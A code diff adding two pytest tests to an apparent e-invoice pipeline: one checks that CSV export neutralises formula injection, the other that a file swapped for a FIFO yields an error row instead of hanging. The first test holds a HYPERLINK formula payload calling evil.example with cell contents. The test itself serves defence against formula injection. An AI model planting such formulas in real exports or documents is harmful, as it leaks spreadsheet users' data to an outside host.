@@ -418,3 +418,65 @@ def test_reading_the_attachments_of_a_damaged_pdf_prints_nothing(tmp_path):
     assert "damaged.pdf: MuPDF: format error: non-page object in page tree" in (
         tmp_path / "log.txt"
     ).read_text()
+
+
+def test_a_csv_export_never_hands_a_spreadsheet_a_formula(tmp_path):
+    """A seller named like a formula (read exactly from the XML) is exported as text with a
+    leading apostrophe; the credit note's negative amounts stay numbers."""
+    import csv
+    import dataclasses
+
+    (tmp_path / "in").mkdir()
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Kranich")'
+    seller = dataclasses.replace(InvoiceFacts.seller, name=formula)
+    facts = dataclasses.replace(STANDALONE, seller=seller, type_code="381", net="-41.00",
+                                tax="-7.79", grand="-48.79", payable="-48.79")  # fmt: skip
+    (tmp_path / "in" / "formula.xml").write_bytes(ubl_xml(facts))
+    _run(tmp_path / "in", tmp_path / "out")
+    assert _rows(tmp_path / "out")["formula.xml"]["data"]["seller"]["name"] == formula
+    done = runner.invoke(app, ["export", str(tmp_path / "out"), "--format", "csv",
+                               "--output", str(tmp_path / "rows.csv")])  # fmt: skip
+    assert done.exit_code == 0, done.output
+    with (tmp_path / "rows.csv").open(newline="") as handle:
+        (record,) = list(csv.DictReader(handle))
+    assert record["data.seller.name"] == "'" + formula
+    assert record["data.grand_total"] == "-48.7900"
+
+
+@pytest.mark.parametrize("name", ["swapped.pdf", "swapped.xml"])
+def test_a_file_swapped_for_a_fifo_after_discovery_is_a_row_not_a_hang(tmp_path, monkeypatch,
+                                                                       name):  # fmt: skip
+    """Between discovery and the e-invoice read, a file becomes a FIFO that nobody writes:
+    the run neither waits on it nor holds the lock for ever; the file gets an unreadable row."""
+    import os
+    import threading
+
+    import pipeline.extract.plan as plan
+
+    files = _inbox(tmp_path / "in")
+    swapped = tmp_path / "in" / name
+    if name.endswith(".pdf"):
+        swapped.write_bytes(pdf_with_xml(cii_xml(EMBEDDED, "en16931"), "factur-x.xml", EMBEDDED))
+    else:
+        swapped.write_bytes(ubl_xml(InvoiceFacts(number="RE-2025-0888")))
+    real = plan.discover_sources
+
+    def discover_then_swap(*args, **kwargs):  # type: ignore[no-untyped-def]
+        found = real(*args, **kwargs)
+        swapped.unlink()
+        os.mkfifo(swapped)
+        return found
+
+    monkeypatch.setattr(plan, "discover_sources", discover_then_swap)
+    outcome: dict[str, object] = {}
+    worker = threading.Thread(target=lambda: outcome.update(report=_run(
+        tmp_path / "in", tmp_path / "out")), daemon=True)  # fmt: skip
+    worker.start()
+    worker.join(timeout=60)
+    if worker.is_alive():  # let the stuck open() go before failing
+        os.close(os.open(swapped, os.O_WRONLY | os.O_NONBLOCK))
+        worker.join(timeout=10)
+    assert "report" in outcome, "the run waited on the FIFO"
+    errors = _rows(tmp_path / "out", "errors")
+    assert list(errors) == [name] and errors[name]["code"] == "unreadable"
+    assert set(_rows(tmp_path / "out")) == set(files)
